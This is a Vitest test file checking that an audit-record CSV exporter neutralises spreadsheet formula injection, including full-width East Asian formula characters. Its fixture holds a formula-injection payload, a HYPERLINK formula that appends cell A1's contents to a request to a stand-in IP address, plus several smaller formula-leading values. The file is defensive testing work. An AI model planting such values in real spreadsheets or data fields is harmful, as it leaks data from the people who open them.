import { expect, test } from "vitest";
import type { AuditRecord } from "./audit-record.ts";
import { toCsv, toJson } from "./export-records.ts";

const record: AuditRecord = {
  Time: "2026-11-24T08:00:00.000Z",
  Event: "call",
  Principal: '=HYPERLINK("http://198.51.100.1/?"&A1,"open")',
  Action: "@SUM(1+1)",
  Resource: " -1+1",
  Status: 200,
  Parameters: '{"Name":"a,b"}',
  Statements: [{ Layer: "identity", StatementNumber: 1 }],
};

/** Reads as RFC 4180 says. */
function parseCsv(text: string): string[][] {
  const lines = text.split("\r\n").slice(0, -1);
  return lines.map((line) =>
    [...line.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = ""]) => cell.replaceAll('""', '"')),
  );
}

test("a table for spreadsheets has each value in its column, and none that begins as a formula does", () => {
  const [head = [], row = []] = parseCsv(toCsv([record]));
  expect(row).toHaveLength(head.length);
  const value = (column: string) => row[head.indexOf(column)];
  expect(value("Principal")).toBe(`'${record.Principal}`);
  expect(value("Action")).toBe("'@SUM(1+1)");
  expect(value("Resource")).toBe("' -1+1");
  expect(value("Parameters")).toBe('{"Name":"a,b"}');
  expect(value("Statements")).toBe('[{"Layer":"identity","StatementNumber":1}]');
  expect(row.filter((cell) => /^\s*[=+\-@\t]/.test(cell))).toEqual([]);
});

test.each(["＝1+1", "＋1", "－1", "＠SUM(1)"])("%s, a formula in East Asian spreadsheets, is text", (Action) => {
  const [, row = []] = parseCsv(toCsv([{ ...record, Action }]));
  expect(row).toContain(`'${Action}`);
});

test("what is exported as JSON are the records themselves", () => {
  expect(JSON.parse(toJson([record]))).toEqual([record]);
});
